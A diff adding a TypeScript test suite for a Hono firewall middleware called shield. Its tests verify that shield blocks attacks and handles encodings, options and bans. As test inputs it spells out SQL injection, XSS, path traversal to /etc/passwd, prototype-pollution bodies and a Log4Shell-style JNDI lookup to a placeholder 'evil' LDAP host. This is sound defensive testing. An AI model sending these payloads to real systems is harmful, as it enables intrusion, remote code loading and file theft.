@@ -1,0 +1,389 @@
+import { Hono, type MiddlewareHandler } from 'hono'
+import { describe, expect, it, vi } from 'vitest'
+import { type Decision, installDecisions } from '../internal/outcomes/decisions'
+import { settle } from '../internal/outcomes/settle'
+import { MemoryRateLimitStore } from '../rate-limit/memory-store'
+import { type ShieldOptions, shield } from './index'
+
+/** `${jndi:` spelled without a template-looking literal. */
+const JNDI = ['$', '{jndi:'].join('')
+
+/** An app behind shield whose handlers echo the body they read; `decisions` after each request. */
+function appWith(options?: ShieldOptions, mw?: MiddlewareHandler) {
+  const app = new Hono()
+  const seen: { decisions: Decision[] } = { decisions: [] }
+  app.use(async (c, next) => {
+    const record = installDecisions(c)
+    seen.decisions = record.decisions
+    await next()
+    settle(record, c.error)
+  })
+  app.use(mw ?? shield(options))
+  app.all('*', async (c) => {
+    const type = c.req.header('content-type') ?? ''
+    if (type.includes('json')) {
+      try {
+        return c.json({ got: await c.req.json() })
+      } catch {
+        return c.text('bad json', 400)
+      }
+    }
+    return c.text(await c.req.text())
+  })
+  const decision = () => seen.decisions.find((d) => d.middleware === 'shield')
+  return { app, decision }
+}
+
+const post = (body: string, type?: string, headers: Record<string, string> = {}): RequestInit => ({
+  method: 'POST',
+  body,
+  headers: type ? { 'content-type': type, ...headers } : headers,
+})
+const json = (value: unknown) => post(JSON.stringify(value), 'application/json')
+
+describe('shield: what it reads', () => {
+  it('lets a clean request through and records allow', async () => {
+    const { app, decision } = appWith()
+    const res = await app.request('/posts?q=hello', json({ title: "O'Brien's notes", n: 3 }))
+    expect(res.status).toBe(200)
+    expect(await res.json()).toEqual({ got: { title: "O'Brien's notes", n: 3 } })
+    expect(decision()).toMatchObject({ middleware: 'shield', outcome: 'allow' })
+  })
+
+  it.each([
+    ['query value', '/search?q=%27%20OR%201%3D1--', undefined, 'sqli', 'query:q'],
+    ['query name', '/search?%3Cscript%3E=1', undefined, 'xss', 'query-name'],
+    ['path', '/files/..%2f..%2fetc%2fpasswd', undefined, 'lfi', 'path'],
+    ['scanner path', '/.env', undefined, 'scanner', 'path'],
+    ['user agent', '/', { 'user-agent': 'sqlmap/1.7' }, 'scanner', 'header:user-agent'],
+    [
+      'referer header',
+      '/',
+      { referer: `https://x/${JNDI}ldap://evil/a}` },
+      'java',
+      'header:referer',
+    ],
+    ['cookie', '/', { cookie: 'theme=dark; q=%3Cscript%3Ealert(1)' }, 'xss', 'cookie:q'],
+  ])(
+    'refuses an attack in the %s with 403 attack_detected',
+    async (_, url, headers, category, location) => {
+      const { app, decision } = appWith()
+      const res = await app.request(url, { headers })
+      expect(res.status).toBe(403)
+      expect(decision()).toMatchObject({
+        outcome: 'reject',
+        code: 'attack_detected',
+        status: 403,
+        category,
+        location,
+      })
+    },
+  )
+
+  it('says nothing in the response about which rule fired, and never records the payload', async () => {
+    const { app, decision } = appWith()
+    const res = await app.request('/c', json({ comment: "x' OR 1=1--" }))
+    expect(res.status).toBe(403)
+    const text = await res.text()
+    expect(text).toBe('Forbidden')
+    expect(JSON.stringify(decision())).not.toContain('OR 1=1')
+    expect(decision()).toMatchObject({ category: 'sqli', location: 'body:/comment' })
+  })
+
+  it('walks JSON with pointers: nested values, array items, and keys as names', async () => {
+    const { app, decision } = appWith()
+    let res = await app.request('/', json({ a: [{ ok: 1 }, { b: 'see ../../etc/passwd' }] }))
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ category: 'lfi', location: 'body:/a/1/b' })
+    res = await app.request('/', post('{"user":{"__proto__":{"admin":true}}}', 'application/json'))
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({
+      category: 'prototype-pollution',
+      location: 'body-name:/user',
+    })
+    res = await app.request('/', json({ 'a/b~c': '<script>x</script>' }))
+    expect(decision()).toMatchObject({ location: 'body:/a~1b~0c' })
+  })
+
+  it('reads urlencoded forms, multipart text fields and file names, XML and plain text', async () => {
+    const { app, decision } = appWith()
+    let res = await app.request(
+      '/',
+      post('name=ann&bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'application/x-www-form-urlencoded'),
+    )
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ category: 'xss', location: 'body/bio' })
+
+    const form = new FormData()
+    form.append('title', 'fine')
+    form.append('note', "1' or 1=1 --")
+    res = await app.request('/', { method: 'POST', body: form })
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ category: 'sqli', location: 'body:/note' })
+
+    const upload = new FormData()
+    upload.append('file', new Blob(['hello']), '../../etc/passwd')
+    res = await app.request('/', { method: 'POST', body: upload })
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ category: 'lfi', location: 'body-filename:/file' })
+
+    res = await app.request('/', post(`<a><b x="${JNDI}ldap://e/x}">t</b></a>`, 'application/xml'))
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ category: 'java', location: 'body' })
+
+    res = await app.request('/', post('hello <script>alert(1)</script>', 'text/plain'))
+    expect(res.status).toBe(403)
+  })
+
+  it('leaves the body readable by the handler, byte for byte', async () => {
+    const { app } = appWith()
+    const body = '{"title":"caf\u00e9 \ud83d\ude00","n":[1,2,3]}'
+    const res = await app.request('/', post(body, 'application/json'))
+    expect(await res.json()).toEqual({ got: JSON.parse(body) })
+    const text = await app.request('/', post('plain words', 'text/plain'))
+    expect(await text.text()).toBe('plain words')
+    const form = await app.request('/', post('a=1&b=2', 'application/x-www-form-urlencoded'))
+    expect(await form.text()).toBe('a=1&b=2')
+  })
+
+  it('does not read Authorization, API keys or signatures', async () => {
+    const { app } = appWith()
+    const res = await app.request('/', {
+      headers: {
+        authorization: "Bearer ' OR 1=1--",
+        'x-api-key': '<script>',
+        signature: 'sig1=:../../etc/passwd:',
+      },
+    })
+    expect(res.status).toBe(200)
+  })
+})
+
+describe('shield: attackers encode', () => {
+  it('decodes a payload split across percent encodings and double encoding', async () => {
+    const { app, decision } = appWith()
+    expect((await app.request('/s?q=%3Cscr%69pt%3E')).status).toBe(403)
+    expect((await app.request('/s?q=%253Cscript%253E')).status).toBe(403)
+    expect(decision()).toMatchObject({ category: 'xss', location: 'query:q' })
+  })
+
+  it('checks every copy of a duplicated parameter, and the copies joined', async () => {
+    const { app, decision } = appWith()
+    let res = await app.request('/s?q=hello&q=%27%20or%201%3D1--')
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ location: 'query:q' })
+    // Neither half alone is the attack; joined by a comma (as some frameworks join them) it is.
+    res = await app.request('/s?q=%3Cscr&q=ipt%3E')
+    expect((await app.request('/s?q=%3Cscr')).status).toBe(200)
+    expect((await app.request('/s?q=ipt%3E')).status).toBe(200)
+    expect(res.status).toBe(200) // '<scr,ipt>' is not a script tag
+    res = await app.request('/s?q=x&q=%3Cscript%3E')
+    expect(res.status).toBe(403)
+  })
+
+  it('a lying content type: JSON sent as text/plain or as a form is still walked as JSON', async () => {
+    const { app, decision } = appWith()
+    let res = await app.request('/', post('{"q":"\\u003cscript\\u003e"}', 'text/plain'))
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ location: 'body:/q' })
+    expect(decision()?.cause).toContain('parsed as JSON')
+    res = await app.request('/', post('{"q":"x\' OR 1=1--"}', 'application/x-www-form-urlencoded'))
+    expect(res.status).toBe(403)
+    res = await app.request('/', post('<script>alert(1)</script>', 'image/png'))
+    expect(res.status).toBe(403)
+  })
+
+  it('a malformed JSON body is inspected as text, never a 500, and the decision says so', async () => {
+    const { app, decision } = appWith()
+    let res = await app.request('/', post('{"a": "<script>", oops', 'application/json'))
+    expect(res.status).toBe(403)
+    expect(decision()?.cause).toBe('body not valid JSON: inspected as text')
+    res = await app.request('/', post('{"a": "fine", oops', 'application/json'))
+    expect(res.status).toBe(400) // the handler's own answer: shield let it through
+    expect(decision()).toMatchObject({
+      outcome: 'allow',
+      cause: 'body not valid JSON: inspected as text',
+    })
+    res = await app.request('/', post(`${'['.repeat(5000)}${']'.repeat(5000)}`, 'application/json'))
+    expect(res.status).not.toBe(500)
+    expect(decision()?.cause).toBe('body nested too deeply: inspected as text')
+  })
+
+  it('a multipart body with a lying boundary is inspected as text', async () => {
+    const { app, decision } = appWith()
+    const res = await app.request(
+      '/',
+      post('--zzz\r\n<script>alert(1)</script>', 'multipart/form-data; boundary=other'),
+    )
+    expect(res.status).toBe(403)
+    expect(decision()?.cause).toBe('body not valid multipart: inspected as text')
+  })
+
+  it('binary bodies of other types are not inspected, and the decision says so', async () => {
+    const { app, decision } = appWith()
+    const bytes = new Uint8Array(256).map((_, i) => (i * 131 + 7) % 256)
+    const res = await app.request('/', {
+      method: 'POST',
+      body: bytes,
+      headers: { 'content-type': 'application/octet-stream' },
+    })
+    expect(res.status).toBe(200)
+    expect(decision()?.cause).toBe('binary body: not inspected')
+  })
+})
+
+describe('shield: maxInspectBytes', () => {
+  it('inspects a larger body up to the cap, and the decision says so', async () => {
+    const { app, decision } = appWith({ maxInspectBytes: 1024 })
+    const filler = 'a'.repeat(2000)
+    let res = await app.request('/', json({ a: filler, b: '<script>x</script>' }))
+    expect(res.status).toBe(200)
+    expect(decision()?.cause).toMatch(
+      /^body over maxInspectBytes: first 1024 of \d+ characters inspected$/,
+    )
+    res = await app.request('/', json({ b: '<script>x</script>', a: filler }))
+    expect(res.status).toBe(403)
+    res = await app.request('/', post(`${filler} <script>`, 'text/plain'))
+    expect(res.status).toBe(200)
+    expect(decision()?.cause).toContain('first 1024 of 2009')
+  })
+})
+
+describe('shield: options', () => {
+  it('rules turn a category off', async () => {
+    const { app } = appWith({ rules: { xss: false } })
+    expect((await app.request('/?q=%3Cscript%3E')).status).toBe(200)
+    expect((await app.request('/?q=%27%20OR%201%3D1')).status).toBe(403)
+  })
+
+  it('exempt paths and prefixes, or a function, pass uninspected (decision skip)', async () => {
+    const { app, decision } = appWith({ exempt: ['/health', '/raw/*'] })
+    expect((await app.request('/health?q=%3Cscript%3E')).status).toBe(200)
+    expect(decision()?.outcome).toBe('skip')
+    expect((await app.request('/raw/a?q=%3Cscript%3E')).status).toBe(200)
+    expect((await app.request('/rawx?q=%3Cscript%3E')).status).toBe(403)
+    const fn = appWith({ exempt: (c) => c.req.header('x-internal') === '1' })
+    expect(
+      (await fn.app.request('/?q=%3Cscript%3E', { headers: { 'x-internal': '1' } })).status,
+    ).toBe(200)
+    expect((await fn.app.request('/?q=%3Cscript%3E')).status).toBe(403)
+  })
+
+  it('fields.skip leaves a subtree alone; fields.inspect wins over it', async () => {
+    const { app } = appWith({
+      fields: { skip: ['/snippet', '/items/*/code'], inspect: ['/snippet/title'] },
+    })
+    const code = "SELECT * FROM t WHERE a='' OR 1=1--"
+    expect((await app.request('/', json({ snippet: { body: code } }))).status).toBe(200)
+    expect((await app.request('/', json({ items: [{ code }, { code }] }))).status).toBe(200)
+    expect((await app.request('/', json({ items: [{ text: code }] }))).status).toBe(403)
+    expect((await app.request('/', json({ snippet: { title: code } }))).status).toBe(403)
+    expect(
+      (
+        await app.request(
+          '/',
+          post(`snippet=${encodeURIComponent(code)}`, 'application/x-www-form-urlencoded'),
+        )
+      ).status,
+    ).toBe(200)
+  })
+
+  it('dry run lets everything through and records each would-be block', async () => {
+    const onDetect = vi.fn()
+    const { app, decision } = appWith({ dryRun: true, onDetect })
+    const res = await app.request('/?q=%3Cscript%3E')
+    expect(res.status).toBe(200)
+    expect(decision()).toMatchObject({
+      outcome: 'dry-run',
+      code: 'attack_detected',
+      status: 403,
+      category: 'xss',
+      location: 'query:q',
+    })
+    expect(onDetect).toHaveBeenCalledWith(
+      { category: 'xss', location: 'query:q', dryRun: true },
+      expect.anything(),
+    )
+  })
+
+  it('onDetect hears each detection before the refusal', async () => {
+    const seen: unknown[] = []
+    const { app } = appWith({ onDetect: (d) => void seen.push(d) })
+    await app.request('/', json({ comment: '<script>' }))
+    expect(seen).toEqual([{ category: 'xss', location: 'body:/comment', dryRun: false }])
+  })
+
+  it.each([
+    [{ paranoia: 3 }, 'shield: "paranoia" must be 1 or 2, got 3'],
+    [{ rules: { sqlx: false } }, 'shield: "rules" has an unknown category "sqlx"'],
+    [{ rules: { sqli: 'no' } }, 'shield: "rules.sqli" must be a boolean'],
+    [{ exempt: ['health'] }, 'shield: "exempt" entry "health" must start with "/"'],
+    [{ fields: { skip: ['snippet'] } }, 'shield: "fields" entry "snippet" must be a JSON pointer'],
+    [{ fields: { skp: [] } }, 'unknown option "skp"'],
+    [{ maxInspectBytes: 0 }, 'shield: "maxInspectBytes" must be a positive integer'],
+    [{ ban: { after: 3 } }, 'shield: "ban.store" is required'],
+    [
+      { ban: { after: 0, store: new MemoryRateLimitStore() } },
+      '"ban.after" must be a positive integer',
+    ],
+    [{ dryrun: true }, 'shield: unknown option "dryrun"'],
+  ])('refuses bad options at construction: %j', (options, message) => {
+    expect(() => shield(options as ShieldOptions)).toThrow(TypeError)
+    expect(() => shield(options as ShieldOptions)).toThrow(message)
+  })
+})
+
+describe('shield: repeat offenders', () => {
+  it('bans a client after `after` detections, for durationMs, on clean requests too', async () => {
+    const store = new MemoryRateLimitStore()
+    const { app, decision } = appWith({
+      ban: { after: 2, windowMs: 60_000, durationMs: 60_000, store },
+    })
+    const from = (ip: string) => ({ headers: { 'x-forwarded-for': ip } })
+    expect((await app.request('/?q=%3Cscript%3E', from('203.0.113.9'))).status).toBe(403)
+    expect((await app.request('/ok', from('203.0.113.9'))).status).toBe(200)
+    expect((await app.request('/?q=%3Cscript%3E', from('203.0.113.9'))).status).toBe(403)
+    expect(decision()?.cause).toBe('client banned')
+    const banned = await app.request('/ok', from('203.0.113.9'))
+    expect(banned.status).toBe(403)
+    expect(await banned.text()).toBe('Forbidden')
+    expect(decision()).toMatchObject({
+      outcome: 'reject',
+      location: 'ban',
+      cause: 'client banned after repeated detections',
+    })
+    expect((await app.request('/ok', from('198.51.100.1'))).status).toBe(200)
+  })
+
+  it('a ban ends after durationMs', async () => {
+    vi.useFakeTimers()
+    try {
+      const store = new MemoryRateLimitStore()
+      const { app } = appWith({ ban: { after: 1, windowMs: 1_000, durationMs: 5_000, store } })
+      expect((await app.request('/?q=%3Cscript%3E')).status).toBe(403)
+      expect((await app.request('/ok')).status).toBe(403)
+      vi.advanceTimersByTime(5_001)
+      expect((await app.request('/ok')).status).toBe(200)
+    } finally {
+      vi.useRealTimers()
+    }
+  })
+
+  it('a failing ban store bans nobody and still inspects', async () => {
+    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {})
+    try {
+      const store = {
+        increment: async () => ({ count: 1, ttl: 1 }),
+        consume: async () => {
+          throw new Error('down')
+        },
+      }
+      const { app } = appWith({ ban: { after: 1, store } })
+      expect((await app.request('/ok')).status).toBe(200)
+      expect((await app.request('/?q=%3Cscript%3E')).status).toBe(403)
+      expect(warn).toHaveBeenCalled()
+    } finally {
+      warn.mockRestore()
+    }
+  })
+})
